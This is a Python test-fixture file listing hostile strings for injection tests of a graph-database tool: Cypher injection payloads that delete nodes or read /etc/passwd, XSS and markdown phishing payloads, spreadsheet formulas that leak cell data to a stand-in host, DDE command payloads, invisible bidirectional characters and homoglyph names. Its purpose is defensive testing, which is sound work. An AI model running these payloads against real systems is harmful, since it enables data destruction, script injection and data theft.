"""Hostile strings shared by the injection tests.

``CYPHER`` are text values that would change a query if anything pasted them
into Cypher; ``HTML`` would run script or fetch something if a map or report
pasted them into markup. ``CLI_IDS`` are id-shaped arguments given to the
command line. None contains a control character the dataset rejects
(``\\x00-\\x08 \\x0b \\x0c \\x0e-\\x1f \\x7f``), leading or trailing white space
(cells are trimmed) or more than 10,000 characters, so each must be stored and
shown exactly as written.
"""

from __future__ import annotations

CYPHER: list[str] = [
    "'",
    '"',
    "`",
    "''",
    "\\'",
    "\\",
    "\\\\",
    "\\u0027",
    "\\u0060",
    "\\u0022) RETURN 1 //",
    "' OR 1=1 //",
    '" OR 1=1 //',
    "` OR 1=1 //",
    "x'}) DETACH DELETE n //",
    "x\"}) DETACH DELETE n //",
    "}) DETACH DELETE n //",
    "'}) MATCH (m) DETACH DELETE m //",
    "x`) DETACH DELETE n //",
    "') WITH 1 AS x MATCH (n) DETACH DELETE n RETURN 1 //",
    "// just a comment",
    "/* comment */ RETURN 1",
    "*/ MATCH (n) DETACH DELETE n /*",
    "CALL dbms.components()",
    "'; CALL dbms.components() YIELD name RETURN name //",
    "CALL db.labels()",
    "CALL apoc.cypher.run('MATCH (n) DETACH DELETE n', {})",
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "CREATE (:Pwned {x: 1})",
    "'}) CREATE (:Pwned {x: 1}) //",
    "x` SET n:Pwned //",
    ":Pwned",
    "n:Pwned",
    "{",
    "}",
    "{}",
    "{id: 'other'}",
    "$param",
    "$rows",
    "${rows}",
    "{label}",
    "{type}",
    "{types}",
    "{max_hops}",
    "[r:KNOWS*]",
    "()-[:LIKES]->()",
    "line one\nline two",
    "a\r\nb",
    "tab\there",
    "UNION MATCH (n) RETURN n",
    "\u0027 OR \u0027\u0027=\u0027",
    "\u02bc OR 1=1 //",
    "\uff07 OR 1=1 //",
    "自贡'}) DETACH DELETE n //党委",
    "\U0001F600 emoji ` ' \"",
    "narrow\u202fno-break space",
    "line\u2028separator",
    "%s %d %x %n",
    "null",
    "NULL",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "x" * 9_999,
    ("'}) DETACH DELETE n // " * 400).strip(),
]

# Id-shaped strings given as command-line names (ids in files must match the
# id pattern, so these go through `search`, `show` and `path` arguments).
CLI_IDS: list[str] = [
    "x'}) DETACH DELETE n //",
    "') RETURN 1 //",
    "` OR 1=1 //",
    "$start",
    "{id: 'zigong'}",
    "CALL dbms.components()",
    "zigong' OR '1'='1",
    "\\u0027",
    "a" * 5_000,
    ":Region",
]

HTML: list[str] = [
    "<script>alert(1)</script>",
    "<script>confirm('x')</script>",
    "<script>prompt('x')</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<img src='http://example.com/x.png'>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<iframe src='javascript:alert(6)'></iframe>",
    "<body onload=alert(7)>",
    "<a href='javascript:alert(8)'>click</a>",
    "\"><script>alert(9)</script>",
    "'><img src=x onerror=alert(10)>",
    "\" onmouseover=\"alert(11)",
    "' onfocus='alert(12)' autofocus='",
    "javascript:alert(13)",
    "<details open ontoggle=alert(14)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "<style>@import 'http://example.com/x.css';</style>",
    "<link rel=stylesheet href='http://example.com/y.css'>",
    "<object data='http://example.com/z'></object>",
    "<video><source onerror=alert(16)></video>",
    "<input autofocus onfocus=alert(17)>",
    "<!-- comment --><b>bold</b>",
    "]]><script>alert(18)</script>",
    "${alert(19)}",
    "{{constructor.constructor('alert(20)')()}}",
    "\\u003cscript\\u003ealert(21)\\u003c/script\\u003e",
    "</textarea><script>alert(22)</script>",
    "</title><script>alert(23)</script>",
    "<meta http-equiv=refresh content='0;url=http://example.com/'>",
    "<base href='http://example.com/'>",
    "<form action='http://example.com/'><button>go</button></form>",
    "a\u2028<script>alert(24)</script>\u2029b",
    "&lt;script&gt;alert(25)&lt;/script&gt;",
    "<scr<script>ipt>alert(26)</script>",
]

# Cells a spreadsheet would run as a formula (OWASP "CSV injection"), and
# near-misses that must stay as written. Each is a valid name: stored,
# exported and imported back exactly as written, never run.
FORMULA: list[str] = [
    "=1+1",
    '=HYPERLINK("http://x.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "+1",
    "-x",
    "@x",
    "=",
    "'=1+1",           # an apostrophe the user typed stays
    "''=1+1",
    "'",
    "'plain",
    "＝1+1",           # full-width equals sign
    "＋1", "－1", "＠x",
    "=1+1\r=2+2",      # a lone carriage return, then another formula
    "a\rb",
    "a\r\nb",
    "a\n=1+1",
    "\"=1+1\"",
    ",=1+1",
    "x=1+1",
    "-5",              # plain numbers are not guarded
    "-12.5",
    "1e5",
    "自贡=1+1",
    "=自贡",
]

# Markdown that would render live: images that fetch, links that lead away,
# HTML that runs, and syntax that reshapes a table.
MARKDOWN: list[str] = [
    "<img src=x onerror=alert(1)>",
    "![](https://tracker.example/p.gif)",
    "![x](https://tracker.example/p.gif \"t\")",
    "[点击](https://phish.example/login)",
    "[a][1]\n\n[1]: https://phish.example/",
    "<https://phish.example/>",
    "https://phish.example/login",
    "www.phish.example",
    "user@phish.example",
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "<a href=\"https://phish.example\">x</a>",
    "a | b | c",
    "**bold** _em_ `code` ~~gone~~",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "\\",
    "\\[not a link\\](x)",
    "&lt;img src=x onerror=alert(2)&gt;",
    "&#60;img src=x onerror=alert(3)&#62;",
    "<!-- hidden -->",
    "line\none",
    "$x^2$",
    "[^1]",
]

# Characters nobody sees, or that a terminal acts on: each refused with its position
# ``(text, position, code point)``; and emoji that are written with the same characters and stay.
INVISIBLE: list[tuple[str, int, int]] = [
    ("华商\u200b商圈党委", 3, 0x200B),       # zero-width space
    ("华商\u200c商圈党委", 3, 0x200C),       # zero-width non-joiner
    ("华商商圈\u200d党委", 5, 0x200D),       # zero-width joiner between letters
    ("\u2060华商商圈党委", 1, 0x2060),       # word joiner
    ("华商\ufeff商圈党委", 3, 0xFEFF),       # a byte-order mark inside the text (at the ends it is trimmed)
    ("华\u00ad商商圈党委", 2, 0x00AD),       # soft hyphen
    ("\u202e委党圈商商华", 1, 0x202E),       # right-to-left override (Trojan Source)
    ("华商\u202d商圈", 3, 0x202D),           # left-to-right override
    ("华商\u2066商圈\u2069", 3, 0x2066),    # isolates
    ("Bank\u200f", 5, 0x200F),              # right-to-left mark
    ("华商\u061c商圈", 3, 0x061C),           # Arabic letter mark
    ("华商商\ufe0f圈", 4, 0xFE0F),           # a variation selector after a letter
    ("葛\U000e0100城", 2, 0xE0100),          # an ideographic variation selector
    ("华商\U000e0041商圈", 3, 0xE0041),      # a tag character (invisible ASCII)
    ("华商\u3164商圈", 3, 0x3164),           # Hangul filler
    ("华商\u034f商圈", 3, 0x034F),           # combining grapheme joiner
    ("华商\u180e商圈", 3, 0x180E),           # Mongolian vowel separator
    ("华商\u009b商圈", 3, 0x009B),           # C1: control sequence introducer
    ("next\u0085line", 5, 0x0085),           # C1: next line (leading, it would be trimmed as space)
    ("x\u009d0;title\u009c", 2, 0x009D),    # C1: operating system command
    ("x\u001b[31mred", 2, 0x001B),           # C0: escape
]
EMOJI_OK: list[str] = ["党员之家 👨\u200d👩\u200d👧", "❤\ufe0f 自贡", "☎\ufe0e 热线", "1\ufe0f\u20e3 一号"]

# Names that look the same and are not: (one, other); each pair is a probable duplicate.
LOOKALIKES: list[tuple[str, str]] = [
    ("Bank of Zigong", "Вank of Zigong"),             # Cyrillic Ve
    ("paypal 党支部", "pаypal 党支部"),                 # Cyrillic a
    ("HUAWEI 党委", "HUAWЕI 党委"),                     # Cyrillic Ie
    ("Zigong Salt 1", "Zigong Salt l"),               # one and ell
    ("ABC 商圈", "ＡＢＣ 商圈"),                         # full-width letters (NFKC)
    ("口岸党委", "ロ岸党委"),                            # CJK mouth vs katakana ro
    ("工业园区党委", "エ业园区党委"),                    # CJK work vs katakana e
    ("力帆党支部", "カ帆党支部"),                        # CJK power vs katakana ka
]
NOT_ALIKE: list[tuple[str, str]] = [
    ("Omega 党委", "Ωmega 党委"),
    ("自贡华商商圈党委", "成都华商商圈党委"),
    ("华商一号", "华商二号"),
    ("Zigong 1", "Zigong 2"),
]
